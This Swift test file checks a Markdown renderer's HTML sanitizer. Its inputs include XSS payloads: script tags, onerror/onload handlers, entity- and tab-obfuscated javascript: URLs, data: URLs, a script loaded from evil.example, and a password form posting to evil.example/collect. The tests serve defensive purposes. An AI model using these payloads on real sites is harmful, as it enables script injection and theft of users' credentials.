@testable import DeskbookMarkdown
import Testing

/// Raw HTML in content is safe without the Content-Security-Policy: only allowlisted tags and attributes stay
/// markup, and no address runs script.
@Suite struct RawHTMLTests {
    func render(_ markdown: String) -> String { MarkdownDocument(markdown).renderHTML() }

    @Test func aScriptTagTheBrowserReadsDifferentlyIsText() {
        let html = render("<div>\n<script/x>alert(1)</script>\n</div>\n\nText <script/x>alert(2)</script> and <SCRIPT SRC=//evil.example/x.js></SCRIPT>\n")
        #expect(!html.lowercased().contains("<script"))
        #expect(html.contains("<div>"))
        #expect(html.contains("&lt;script/x>alert(1)&lt;/script&gt;"))
    }

    @Test func eventHandlersAndStylesAreDropped() {
        let html = render(#"<p onclick="alert(1)" style="position:fixed" title="Tip">Hello</p>"# + "\n\n" + #"An <img src="a.png" alt="" onerror=alert(2)> image"# + "\n")
        #expect(html.contains(#"<p title="Tip">Hello</p>"#))
        #expect(html.contains(#"<img src="a.png" alt="">"#))
        #expect(!html.contains("onclick") && !html.contains("onerror") && !html.contains("style="))
    }

    @Test func scriptAddressesAreDroppedHoweverTheyAreWritten() {
        let links = [
            #"<a href="javascript:alert(1)">a</a>"#,
            #"<a href="JavaScript:alert(1)">a</a>"#,
            #"<a href=" javascript:alert(1)">a</a>"#,
            #"<a href="jav&#x61;script:alert(1)">a</a>"#,
            #"<a href="&#106avascript:alert(1)">a</a>"#,
            #"<a href="java&#9;script:alert(1)">a</a>"#,
            #"<a href="vbscript:msgbox(1)">a</a>"#,
            #"<a href="data:text/html,<script>alert(1)</script>">a</a>"#,
            #"<img src="data:image/svg+xml,<svg onload=alert(1)>">"#,
            "[md](javascript:alert(1))",
            "<javascript:alert(1)>",
            "![img](data:text/html;base64,PHNjcmlwdD4=)",
        ]
        for markdown in links {
            let html = render(markdown + "\n")
            let addresses = html.matches(of: /(?:href|src)="([^"]*)"/).map { String($0.output.1) }
            #expect(addresses.joined().isEmpty, "\(markdown) → \(html)")
            #expect(!html.contains("onload"), "\(markdown) → \(html)")
        }
    }

    @Test func ordinaryAddressesAndDataImagesStay() {
        let html = render(#"<a href="https://example.com/?a=1&amp;b=2">x</a> <a href="../billing/">y</a> <a href="ms-settings:privacy">z</a> <img src="data:image/png;base64,iVBORw0KGgo=" alt="dot">"# + "\n\n[mail](mailto:help@example.com)\n")
        #expect(html.contains(#"<a href="https://example.com/?a=1&amp;b=2">"#))
        #expect(html.contains(#"<a href="../billing/">"#))
        #expect(html.contains(#"<a href="ms-settings:privacy">"#))
        #expect(html.contains(#"<img src="data:image/png;base64,iVBORw0KGgo=" alt="dot">"#))
        #expect(html.contains(#"<a href="mailto:help@example.com">"#))
    }

    @Test func formsFramesAndForeignContentAreText() {
        let html = render("<form action=\"https://evil.example/collect\" method=post>\n<input name=password type=password><button>Go</button>\n</form>\n\n<iframe src=\"https://evil.example\"></iframe>\n\n<svg><script>alert(1)</script></svg>\n\n<style>body{display:none}</style>\n\n<base href=\"https://evil.example/\">\n")
        for tag in ["<form", "<input", "<button", "<iframe", "<svg", "<style", "<base", "<script"] {
            #expect(!html.contains(tag), "\(tag) in \(html)")
        }
        #expect(html.contains("&lt;form action=&quot;https://evil.example/collect&quot; method=post&gt;"))
    }

    @Test func allowedMarkupIsPublishedAsWritten() {
        let source = """
        ## Fees <a name="fees"></a>

        <details>
        <summary>More</summary>

        Line one<br/>line <b>two</b>, <kbd>Ctrl</kbd>+<kbd>C</kbd>

        </details>

        <table align="center"><tr><td valign="top" colspan=2>Cell</td></tr></table>

        """
        let html = render(source)
        for markup in [#"<a name="fees"></a>"#, "<details>", "<summary>More</summary>", "<br/>", "<b>two</b>", "<kbd>Ctrl</kbd>",
                       #"<table align="center"><tr><td valign="top" colspan=2>Cell</td></tr></table>"#, "</details>"] {
            #expect(html.contains(markup), "\(markup) in \(html)")
        }
    }

    @Test func unknownTagsSuchAsPlaceholdersBecomeVisibleText() {
        let html = render("Run `Get-User` for <username> in <domain>.\n")
        #expect(html.contains("for &lt;username&gt; in &lt;domain&gt;."))
    }

    @Test func commentsAreLeftOutAndAnUnclosedOneIsText() {
        #expect(render("Before <!-- internal note --> after\n") == "<p>Before  after</p>\n")
        let unclosed = render("<!-- never closed\n\n<p>still here</p>\n")
        #expect(unclosed.contains("&lt;!-- never closed"))
        #expect(unclosed.contains("<p>still here</p>"))
    }

    @Test func attributeValuesCannotBreakOutOfTheirQuotes() {
        let html = RawHTML.sanitize(#"<span title='say "hi" <b>' onmouseover=x>t</span>"#)
        #expect(html == #"<span title="say &quot;hi&quot; &lt;b&gt;">t</span>"#)
    }
}
